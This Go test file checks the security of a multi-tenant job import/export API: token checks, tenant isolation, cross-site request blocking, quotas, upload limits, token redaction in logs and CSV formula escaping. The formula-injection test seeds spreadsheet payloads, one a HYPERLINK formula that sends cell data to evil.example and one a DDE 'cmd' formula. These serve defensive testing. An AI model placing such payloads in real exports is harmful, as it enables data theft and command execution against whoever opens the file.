package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/reins-dev/reins"
	reinshttp "github.com/reins-dev/reins/http"
	"github.com/reins-dev/reins/reinstest"
)

const (
	acmeToken   = "acme-secret-token-0123456789"
	globexToken = "globex-secret-token-0123456789"
	tenantsEnv  = "acme:" + acmeToken + ",globex:" + globexToken
)

// withTokens configures the two tenants acme and globex.
func withTokens(c *Config) { c.APITokens = tenantsEnv }

func tokenClient(t *testing.T, m *Main, token string) *client {
	c := newClient(t, m.Addr())
	c.token = token
	return c
}

// isPublic is what needs no token: health, docs, the dashboard's page and assets, and
// /metrics (its own token).
func isPublic(path string) bool {
	switch path {
	case "/healthz", "/readyz", "/metrics", "/api/v1/docs", "/api/v1/openapi.json", "/api/v1/openapi.yaml", "/":
		return true
	}
	return strings.HasPrefix(path, "/ui") || strings.HasPrefix(path, "/api/v1/docs/")
}

// TestTokensRequired walks every registered route: without a token, or with a wrong one,
// each answers 401 with WWW-Authenticate and an error that does not echo the token.
func TestTokensRequired(t *testing.T) {
	t.Parallel()
	m := startMainWith(t, reinstest.Kinds(t)[0], withTokens)
	routes := routePatterns(m.API)
	if len(routes) < 8 {
		t.Fatalf("Routes() = %v: too few routes", routes)
	}
	const wrong = "wrong-token-that-is-long-enough"
	id := "00000000-0000-0000-0000-000000000001"
	for _, route := range routes {
		path := strings.ReplaceAll(route, "{job_id}", id)
		if isPublic(route) {
			continue
		}
		for _, token := range []string{"", wrong, acmeToken + "x"} {
			for _, method := range []string{http.MethodGet, http.MethodPost} {
				c := newClient(t, m.Addr())
				c.token = token
				r := c.do(method, path, strings.NewReader("status=PAUSE"), "application/x-www-form-urlencoded")
				msg := expectError(t, r, http.StatusUnauthorized)
				if !strings.HasPrefix(r.header.Get("WWW-Authenticate"), "Bearer") {
					t.Errorf("%s: WWW-Authenticate %q, want Bearer", r, r.header.Get("WWW-Authenticate"))
				}
				if token != "" && strings.Contains(msg, token) {
					t.Errorf("%s: the error echoes the token", r)
				}
			}
		}
	}
	// Health and docs stay open.
	c := newClient(t, m.Addr())
	expectOK(t, c.get("/healthz"))
	expectOK(t, c.get("/readyz"))
	expectOK(t, c.get("/api/v1/docs"))
	// A valid token opens the API.
	expectOK(t, tokenClient(t, m, acmeToken).get("/api/v1/jobs"))
	// "bearer" is case-insensitive, as RFC 7235 says.
	req, _ := http.NewRequest(http.MethodGet, c.base+"/api/v1/jobs", nil)
	req.Header.Set("Authorization", "bearer "+acmeToken)
	res, err := c.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Errorf("lowercase bearer: %d, want 200", res.StatusCode)
	}
}

// TestTenantIsolation checks, on both stores, that another tenant's job is 404 on every
// route that takes a job id (walking the router's route list), that commands and uploads
// cannot touch it, and that lists and streams do not show it.
func TestTenantIsolation(t *testing.T) {
	t.Parallel()
	forEachKind(t, func(t *testing.T, kind reinstest.Kind) {
		m := startMainWith(t, kind, withTokens)
		seedDemo(t, m, 200)
		acme, globex := tokenClient(t, m, acmeToken), tokenClient(t, m, globexToken)
		// acme's jobs: a slow export (it stays STARTED) and an import waiting for its file.
		exportID := acme.export("2000-01-01", "2100-01-01", 1)
		importID := acme.newImportJob("")
		for _, route := range routePatterns(m.API) {
			if !strings.Contains(route, "{job_id}") {
				continue
			}
			for _, id := range []string{exportID, importID} {
				path := strings.ReplaceAll(route, "{job_id}", id)
				// The owner sees it (so this walk can fail); a stream is read until it does...
				if strings.HasSuffix(route, "/events") {
					if body := readUntil(t, acme, path, id); !strings.Contains(body, id) {
						t.Errorf("owner: GET %s shows no event of its job: %.300s", path, body)
					}
				} else if r := acme.get(path); r.status == http.StatusNotFound && bodyContains(r.body, "no job") {
					t.Errorf("owner: %s", r)
				}
				// ...another tenant does not, whatever the method.
				for _, method := range []string{http.MethodGet, http.MethodHead, http.MethodPost} {
					r := globex.do(method, path, strings.NewReader("status=REVOKE"), "application/x-www-form-urlencoded")
					if r.status != http.StatusNotFound && r.status != http.StatusMethodNotAllowed {
						t.Errorf("globex %s: want 404 (or 405)", r)
					}
					if bodyContains(r.body, "acme") {
						t.Errorf("globex %s: the answer names the owner", r)
					}
				}
			}
		}
		// Upload into another tenant's job.
		r := globex.do(http.MethodPost, "/api/v1/upload/?job_id="+importID, strings.NewReader(csvHeader), "text/csv")
		expectError(t, r, http.StatusNotFound)
		// acme's jobs are untouched by globex's commands.
		if s := acme.status(exportID); s.JobStatus == "REVOKING" || s.JobStatus == "REVOKED" {
			t.Errorf("globex's REVOKE reached acme's export: %s", s.JobStatus)
		}
		if s := acme.status(importID); s.JobStatus != "CREATED" {
			t.Errorf("acme's import is %s, want CREATED", s.JobStatus)
		}
		// Lists, summaries and streams: every route without a job id that answers globex
		// must not show acme's jobs. A stream is read until it shows globex's own job: its
		// first events are the current state, the jobs not finished (acme's would be among
		// them) before the finished one.
		globexExport := globex.export("2000-01-01", "2000-01-02", 0)
		globex.waitStatus(globexExport, "COMPLETED")
		for _, route := range routePatterns(m.API) {
			if strings.Contains(route, "{") || isPublic(route) || route == "/api/v1/export" || route == "/api/v1/new-job" {
				continue
			}
			body := readUntil(t, globex, route, globexExport)
			if strings.Contains(body, exportID) || strings.Contains(body, importID) {
				t.Errorf("GET %s as globex shows acme's jobs: %.300s", route, body)
			}
		}
		if body := readUntil(t, globex, "/api/v1/jobs?limit=1000", ""); !strings.Contains(body, globexExport) {
			t.Errorf("globex's list lacks its own job %s: %.300s", globexExport, body)
		}
		if body := readUntil(t, acme, "/api/v1/jobs?limit=1000", ""); strings.Contains(body, globexExport) || !strings.Contains(body, exportID) {
			t.Errorf("acme's list is wrong: %.300s", body)
		}
		acme.command(exportID, "REVOKE")
	})
}

// readUntil GETs path and returns all of an ordinary answer, or of a stream what arrives
// until want shows in it (or the stream ends, or waitLimit passes).
func readUntil(t *testing.T, c *client, path, want string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), waitLimit)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+c.token)
	res, err := c.http.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	defer res.Body.Close()
	if res.StatusCode >= 500 {
		t.Errorf("GET %s: %d", path, res.StatusCode)
	}
	if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/event-stream") {
		b, _ := io.ReadAll(res.Body)
		return string(b)
	}
	var body strings.Builder
	lines := bufio.NewScanner(res.Body)
	for lines.Scan() {
		body.WriteString(lines.Text() + "\n")
		if strings.Contains(lines.Text(), want) {
			return body.String()
		}
	}
	t.Errorf("GET %s: the stream never showed %q: %.300s", path, want, body.String())
	return body.String()
}

// TestCrossSite checks that a browser's cross-site request cannot change state (commands,
// creations by POST or by the old API's GETs), while same-origin pages and clients that
// are not browsers keep working.
func TestCrossSite(t *testing.T) {
	t.Parallel()
	m := startMain(t, reinstest.Kinds(t)[0])
	c := newClient(t, m.Addr())
	id := c.newImportJob("")
	send := func(method, path string, header map[string]string) *response {
		return c.doHeaders(method, path, text("status=PAUSE"), "application/x-www-form-urlencoded", header)
	}
	crossSite := map[string]string{"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"}
	sameSite := map[string]string{"Sec-Fetch-Site": "same-site", "Origin": "https://other.example"}
	for _, h := range []map[string]string{crossSite, sameSite, {"Origin": "https://evil.example"}} {
		expectError(t, send(http.MethodPost, "/api/v1/job-status/"+id+"/", h), http.StatusForbidden, "cross-origin")
		expectError(t, send(http.MethodPost, "/api/v1/new-job/", h), http.StatusForbidden, "cross-origin")
	}
	for _, h := range []map[string]string{crossSite, sameSite} {
		expectError(t, send(http.MethodGet, "/api/v1/export/?date_gte=2020-01-01&date_lte=2020-01-02", h), http.StatusForbidden, "cross-site")
		expectError(t, send(http.MethodGet, "/api/v1/new-job/", h), http.StatusForbidden, "cross-site")
	}
	if s := c.status(id); s.JobStatus != "CREATED" {
		t.Fatalf("a cross-site request changed the job: %s", s.JobStatus)
	}
	// Reads stay open to cross-site GETs (they change nothing, and need a token anyway).
	expectOK(t, send(http.MethodGet, "/api/v1/job-status/"+id+"/", crossSite))
	// Same-origin browsers and clients that send no such headers are served.
	expectOK(t, send(http.MethodGet, "/api/v1/new-job/", map[string]string{"Sec-Fetch-Site": "same-origin"}))
	expectOK(t, send(http.MethodPost, "/api/v1/job-status/"+id+"/", map[string]string{"Sec-Fetch-Site": "same-origin", "Origin": c.base}))
	expectOK(t, send(http.MethodPost, "/api/v1/job-status/"+c.newImportJob("")+"/", nil))
}

// TestQuotas checks the per-tenant limits: unfinished jobs and creations per minute answer
// 429 with Retry-After, for that tenant only.
func TestQuotas(t *testing.T) {
	t.Parallel()
	t.Run("ActiveJobs", func(t *testing.T) {
		t.Parallel()
		m := startMainWith(t, reinstest.Kinds(t)[0], func(c *Config) { withTokens(c); c.MaxActiveJobs = 2 })
		acme, globex := tokenClient(t, m, acmeToken), tokenClient(t, m, globexToken)
		first := acme.newImportJob("")
		acme.newImportJob("")
		r := acme.get("/api/v1/new-job/")
		expectError(t, r, http.StatusTooManyRequests, "unfinished jobs", "at most 2")
		if r.header.Get("Retry-After") == "" {
			t.Errorf("%s: no Retry-After", r)
		}
		expectError(t, acme.get("/api/v1/export/?date_gte=2020-01-01&date_lte=2020-01-02"), http.StatusTooManyRequests)
		globex.newImportJob("") // another tenant is not held back
		acme.command(first, "REVOKE")
		acme.waitStatus(first, "REVOKED")
		acme.newImportJob("") // a finished job frees its place
	})
	t.Run("CreatesPerMinute", func(t *testing.T) {
		t.Parallel()
		m := startMainWith(t, reinstest.Kinds(t)[0], func(c *Config) { withTokens(c); c.MaxJobsPerMinute = 3 })
		acme, globex := tokenClient(t, m, acmeToken), tokenClient(t, m, globexToken)
		for range 3 {
			acme.newImportJob("")
		}
		r := acme.postForm("/api/v1/new-job/", url.Values{})
		expectError(t, r, http.StatusTooManyRequests, "at most 3 a minute")
		if r.header.Get("Retry-After") == "" {
			t.Errorf("%s: no Retry-After", r)
		}
		globex.newImportJob("")
	})
}

// TestUploadLimit checks --max-upload-bytes: a declared length over it is refused before
// the job is touched; a streamed file that grows over it fails the job and removes its
// spool.
func TestUploadLimit(t *testing.T) {
	t.Parallel()
	forEachKind(t, func(t *testing.T, kind reinstest.Kind) {
		m := startMainWith(t, kind, func(c *Config) { c.MaxUploadBytes = 1000 })
		c := newClient(t, m.Addr())
		big := customersCSV(100)
		id := c.newImportJob("")
		expectError(t, c.do(http.MethodPost, "/api/v1/upload/?job_id="+id, strings.NewReader(string(big)), "text/csv"),
			http.StatusRequestEntityTooLarge, "at most 1000")
		if s := c.status(id); s.JobStatus != "CREATED" {
			t.Errorf("a refused upload changed the job to %s", s.JobStatus)
		}
		// The job still takes a file that fits.
		expectOK(t, c.do(http.MethodPost, "/api/v1/upload/?job_id="+id, strings.NewReader(string(customersCSV(3))), "text/csv"))
		id = c.newImportJob("")
		expectError(t, c.uploadFile(id, "big.csv", big), http.StatusRequestEntityTooLarge, "larger than 1000 bytes")
		s := c.waitStatus(id, "FAILED")
		if s.Error == nil || !strings.Contains(*s.Error, "larger than") {
			t.Errorf("job error %v, want it to say the file is too large", s.Error)
		}
		if !spoolGone(t, m, id) {
			t.Errorf("the spool of a refused upload is still on disk")
		}
	})
}

// TestResultRetention checks --result-retention: past it, /result is 410 and the file is
// deleted, by the download and by the sweep; and --job-retention: past it, the sweep
// deletes the job (404).
func TestResultRetention(t *testing.T) {
	t.Parallel()
	forEachKind(t, func(t *testing.T, kind reinstest.Kind) {
		m := startMainWith(t, kind, func(c *Config) { c.ResultRetention, c.JobRetention = time.Nanosecond, time.Nanosecond })
		seedDemo(t, m, 50)
		c := newClient(t, m.Addr())
		first := c.export("2000-01-01", "2100-01-01", 0)
		second := c.export("2000-01-01", "2100-01-01", 0)
		c.waitStatus(first, "COMPLETED")
		c.waitStatus(second, "COMPLETED")
		expectError(t, c.result(first), http.StatusGone, "--result-retention")
		if _, err := os.Stat(filepath.Join(m.Config.BlobDir(), "exports", first)); !os.IsNotExist(err) {
			t.Errorf("an expired result's files are still on disk (%v)", err)
		}
		if n, err := m.API.SweepResults(context.Background(), time.Now()); err != nil || n < 2 {
			t.Errorf("SweepResults = %d, %v; want both exports looked at", n, err)
		}
		if _, err := os.Stat(filepath.Join(m.Config.BlobDir(), "exports", second)); !os.IsNotExist(err) {
			t.Errorf("the sweep left an expired result's files on disk (%v)", err)
		}
		if n, err := m.API.SweepJobs(context.Background(), time.Now()); err != nil || n != 2 {
			t.Errorf("SweepJobs = %d, %v; want both exports deleted", n, err)
		}
		expectError(t, c.get("/api/v1/job-status/"+first+"/"), http.StatusNotFound)
		expectError(t, c.get("/api/v1/jobs/"+second), http.StatusNotFound)
	})
}

// TestFormulaInjection checks OWASP's CSV-injection advice on both export paths (the Go
// writer on SQLite, Postgres's COPY): a cell starting with = + - @ tab or CR is prefixed
// with ', unless escape_formulas=false asks for the raw cells.
func TestFormulaInjection(t *testing.T) {
	t.Parallel()
	forEachKind(t, func(t *testing.T, kind reinstest.Kind) {
		m := startMain(t, kind)
		at := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
		hostile := []reins.Customer{
			{FirstName: `=HYPERLINK("http://evil.example/?x="&A1,"x")`, LastName: "+cmd|' /C calc'!A0", Address: "@SUM(1)",
				Email: "a@example.com", Age: 30, Company: "-2+3"},
			{FirstName: "\tTab", LastName: "\rCR", Address: "1 Main St", Email: "b@example.com", Age: 31, Company: "Acme"},
		}
		if err := m.Backend.SeedCustomers(context.Background(), int64(len(hostile)), func(i int64) reins.Customer {
			c := hostile[i]
			c.CreatedAt = at.Add(time.Duration(i) * time.Minute)
			return c
		}); err != nil {
			t.Fatal(err)
		}
		c := newClient(t, m.Addr())
		exportCSV := func(query string) [][]string {
			r := c.get("/api/v1/export/?date_gte=2020-01-01&date_lte=2020-01-01" + query)
			expectOK(t, r)
			id := r.json(t)["job_id"].(string)
			c.waitStatus(id, "COMPLETED")
			rows, err := csv.NewReader(strings.NewReader(c.download(id))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			return rows[1:]
		}
		escaped := exportCSV("")
		want := [][]string{
			{`'=HYPERLINK("http://evil.example/?x="&A1,"x")`, "'+cmd|' /C calc'!A0", "'@SUM(1)", "a@example.com", "30", "'-2+3"},
			{"'\tTab", "'\rCR", "1 Main St", "b@example.com", "31", "Acme"},
		}
		if !slices.EqualFunc(escaped, want, slices.Equal) {
			t.Errorf("escaped export:\n got %q\nwant %q", escaped, want)
		}
		raw := exportCSV("&escape_formulas=false")
		for i, h := range hostile {
			if raw[i][0] != h.FirstName || raw[i][1] != h.LastName || raw[i][5] != h.Company {
				t.Errorf("escape_formulas=false row %d: %q, want the cells as stored", i, raw[i])
			}
		}
	})
}

// TestBoundedAnswers checks that a command storm's history comes in pages in a job's
// detail, and that a list leaves long texts (row errors) out.
func TestBoundedAnswers(t *testing.T) {
	t.Parallel()
	m := startMain(t, reinstest.Kinds(t)[0])
	c := newClient(t, m.Addr())
	id := c.newImportJob("")
	const cycles = 30
	for range cycles {
		c.command(id, "PAUSE")
		c.command(id, "RESUME")
	}
	type detail struct {
		History      []map[string]any `json:"history"`
		HistoryTotal int              `json:"history_total"`
		HistoryNext  *int             `json:"history_next"`
	}
	r := c.get("/api/v1/jobs/" + id + "?history_limit=50")
	expectOK(t, r)
	first := decode[detail](t, r)
	if len(first.History) != 50 || first.HistoryTotal < 2*cycles || first.HistoryNext == nil || *first.HistoryNext != 50 {
		t.Fatalf("first page: %d events, total %d, next %v; want 50 of at least %d, next 50", len(first.History), first.HistoryTotal, first.HistoryNext, 2*cycles)
	}
	r = c.get("/api/v1/jobs/" + id + "?history_offset=50&history_limit=1000")
	expectOK(t, r)
	rest := decode[detail](t, r)
	if len(rest.History) != first.HistoryTotal-50 || rest.HistoryNext != nil {
		t.Errorf("second page: %d events, next %v; want the other %d and no next", len(rest.History), rest.HistoryNext, first.HistoryTotal-50)
	}
	if r := decode[detail](t, c.get("/api/v1/jobs/"+id)); len(r.History) != min(first.HistoryTotal, 100) {
		t.Errorf("default page: %d events of %d, want at most 100", len(r.History), first.HistoryTotal)
	}
	expectError(t, c.get("/api/v1/jobs/"+id+"?history_limit=0"), http.StatusBadRequest, "history_limit")

	// An import that skips bad rows keeps them in its detail, not in lists.
	skip := c.newImportJob("?on_error=skip")
	bad := string(customersCSV(3)) + "Bad,Row,1 Main St,not-an-email,30,Acme\n"
	expectOK(t, c.do(http.MethodPost, "/api/v1/upload/?job_id="+skip, strings.NewReader(bad), "text/csv"))
	c.waitStatus(skip, "COMPLETED")
	if r := c.get("/api/v1/jobs/" + skip); !bodyContains(r.body, `"errors":[{`) {
		t.Fatalf("the detail lacks the row errors: %s", r)
	}
	list := c.get("/api/v1/jobs?limit=1000")
	expectOK(t, list)
	if bodyContains(list.body, "not-an-email") || bodyContains(list.body, `"history"`) {
		t.Errorf("a list shows long texts: %.500s", list.body)
	}
}

// TestTokensNotLogged runs a server with tokens, logging everything, sends good and bad
// tokens, and checks that no log line holds a token; a bad tokens file's error holds none.
func TestTokensNotLogged(t *testing.T) {
	t.Parallel()
	var logs syncBuffer
	cfg, err := DefaultConfig()
	if err != nil {
		t.Fatal(err)
	}
	cfg.Addr, cfg.DataDir, cfg.Workers = "127.0.0.1:0", t.TempDir(), 1
	file := filepath.Join(t.TempDir(), "tokens")
	if err := os.WriteFile(file, []byte("# tenants\nacme:"+acmeToken+"\n\nglobex:"+globexToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg.APITokensFile = file
	m := NewMain(cfg, "serve", slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})))
	if err := m.Open(context.Background()); err != nil {
		t.Fatal(err)
	}
	c := tokenClient(t, m, acmeToken)
	expectOK(t, c.get("/api/v1/jobs"))
	id := c.newImportJob("?bogus=1")
	c.command(id, "REVOKE")
	wrong := tokenClient(t, m, acmeToken+"-wrong")
	expectError(t, wrong.get("/api/v1/jobs"), http.StatusUnauthorized)
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	if err := m.Close(ctx); err != nil {
		t.Fatal(err)
	}
	out := logs.String()
	if !strings.Contains(out, "API tokens required") {
		t.Errorf("the start log does not say tokens are required:\n%s", out)
	}
	for _, token := range []string{acmeToken, globexToken} {
		if strings.Contains(out, token) {
			t.Errorf("a log line holds a token:\n%s", out)
		}
	}
	// A bad file: its error names the line and tenant, never the token.
	if err := os.WriteFile(file, []byte("acme:"+acmeToken+"\nglobex:"+acmeToken+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err = cfg.tokens()
	if err == nil || strings.Contains(err.Error(), acmeToken) || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("a token given twice: got %v, want an error naming line 2 without the token", err)
	}
}

// syncBuffer is a bytes.Buffer safe for the server's goroutines.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestBodyTimeout checks --body-timeout: a command whose body never finishes arriving is
// answered 400 once the timeout passes, rather than holding the request open.
func TestBodyTimeout(t *testing.T) {
	t.Parallel()
	m := startMainWith(t, reinstest.Kinds(t)[0], func(c *Config) { c.BodyTimeout = 500 * time.Millisecond })
	id := newClient(t, m.Addr()).newImportJob("")
	conn, err := net.Dial("tcp", m.Addr())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(waitLimit))
	// Ten bytes of a declared hundred, and the connection left open.
	if _, err := fmt.Fprintf(conn, "POST /api/v1/job-status/%s/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nstatus=PAU", id); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != http.StatusBadRequest || !bytes.Contains(body, []byte("timeout")) {
		t.Errorf("a stalled body: %d %s, want 400 naming the timeout", res.StatusCode, body)
	}
}

// routePatterns are the path patterns of every route the server registered.
func routePatterns(api *reinshttp.Server) []string {
	var out []string
	for _, r := range api.Routes() {
		out = append(out, r.Pattern)
	}
	return out
}
